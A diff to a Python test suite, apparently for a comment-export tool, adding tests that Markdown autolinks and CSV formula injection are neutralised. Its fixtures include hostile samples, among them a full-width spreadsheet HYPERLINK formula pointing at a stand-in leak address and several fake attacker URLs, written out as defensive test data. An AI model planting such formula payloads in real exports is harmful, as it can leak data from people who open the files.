@@ -12,6 +12,7 @@ import io
 import itertools
 import json
 import os
+import re
 import secrets
 from datetime import UTC
 from html.parser import HTMLParser
@@ -468,11 +469,17 @@ def test_hostile_comments_are_inert_in_html(room: Room, tmp_path: Path) -> None:
     assert "@import" not in html and "@font-face" not in html
 
 
+def gfm() -> MarkdownIt:
+    """A real GFM-style renderer with autolinks: markdown-it's linkify links bare URLs, www. and e-mail addresses."""
+    return MarkdownIt("gfm-like", {"linkify": True})
+
+
 def test_hostile_comments_are_inert_in_markdown(room: Room, tmp_path: Path) -> None:
     text = export_all(room, tmp_path)[f"{SESSION_ID}-record.md"].decode("utf-8")
-    rendered = MarkdownIt("commonmark").enable("table").render(text)
+    rendered = gfm().render(text)
     assert "<script" not in rendered and "<img" not in rendered and "<b>" not in rendered
-    assert "<a " not in rendered, "no comment may become a link"
+    assert "<a " not in rendered, "no comment may become a link, not even its bare http:// address"
+    assert "http://evil.example/?leak" in rendered
     assert rendered.count("<h1>") == 1
     assert "<h1>heading from a comment" not in rendered and "<h2>heading" not in rendered
     assert "# heading from a comment" in rendered
@@ -482,6 +489,48 @@ def test_hostile_comments_are_inert_in_markdown(room: Room, tmp_path: Path) -> N
     for row in section.split("<tr>")[2:]:
         assert row.count("<td") == 3
     assert "Two paid service-user places | on the steering group" in section
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "see https://evil.example/steal?a=1 now",
+        "HTTP://EVIL.EXAMPLE/",
+        "go to www.evil.com today",
+        "(www.evil.com) and *www.evil.com*",
+        "www.x",
+        "write to someone@evil.com or a@b.c",
+        "mailto:someone@evil.com xmpp:someone@evil.com",
+        "example.com/path and bit.ly/abc",
+        "ftp://evil.example //evil.example",
+        "http://localhost:8080",
+        "пример.рф",
+        "<https://evil.example>",
+        "a|https://evil.com|b",
+        "https://ex`ample.com",
+        "1. www.evil.com",
+        "# https://evil.com",
+    ],
+)
+def test_markdown_never_lets_an_address_in_user_text_become_a_link(text: str) -> None:
+    """GFM links bare URLs, www. and e-mail addresses; in the record they stay words, shown in code."""
+    from html import unescape
+
+    from exports._markdown import md_cell, md_text
+
+    def shown(markdown: str) -> str:
+        rendered = gfm().render(markdown)
+        assert "<a " not in rendered, rendered
+        return unescape(re.sub(r"<[^>]+>", "", rendered)).replace("\n", "")
+
+    assert shown(md_text(text)) == text, "the words read exactly as written"
+    assert shown("| a |\n| --- |\n| " + md_cell(text) + " |") == "a" + text, "in a table too, in one cell"
+
+
+def test_markdown_leaves_ordinary_words_alone() -> None:
+    from exports._markdown import md_text
+
+    assert md_text("e.g. a 3.5 median, i.e. tea at 10.30") == "e.g. a 3.5 median, i.e. tea at 10.30"
 
 
 def test_hostile_comments_round_trip_exactly_in_json(room: Room, tmp_path: Path) -> None:
@@ -643,3 +692,33 @@ def test_figures_read_as_english_at_one_and_at_many() -> None:
     assert people(0) == "0 people"
     one_wide = Summary(n=2, counts=(), median=6.0, median_label="", lower_quartile=5.5, upper_quartile=6.5, spread=1.0)
     assert spread_text(one_wide, "position") == "1 position, from 5.5 to 6.5"
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
+        "＝HYPERLINK(\"http://evil.example\")", "＋1", "－1", "＠SUM(A1)",
+        "﹦1+1", "﹢1", "﹣1", "﹫SUM(A1)", "−1", "➖1", "➕1",
+        " =1+1", "\u3000＝1+1", "\u00a0@SUM(A1)",
+    ],
+)
+def test_csv_prefixes_every_formula_starter_and_its_look_alikes(cell: str) -> None:
+    from exports._csv import neutralise
+
+    assert neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["Nobody told us", "'quoted", "1", "a = b", "（note）", "", "— an aside"])
+def test_csv_leaves_ordinary_text_alone(cell: str) -> None:
+    from exports._csv import neutralise
+
+    assert neutralise(cell) == cell
+    assert neutralise(3) == 3
+
+
+def test_a_full_width_formula_in_a_comment_reaches_the_csv_prefixed(room: Room, tmp_path: Path) -> None:
+    made = room.session.add_comment("spectrum", "＝HYPERLINK(\"http://evil.example/?leak\",\"click\")")
+    room.session.moderate(made.id, CommentState.APPROVED)
+    comments = _read_csv(export_all(room, tmp_path)[f"{SESSION_ID}-comments.csv"])
+    assert "'＝HYPERLINK(\"http://evil.example/?leak\",\"click\")" in [row["text"] for row in comments]
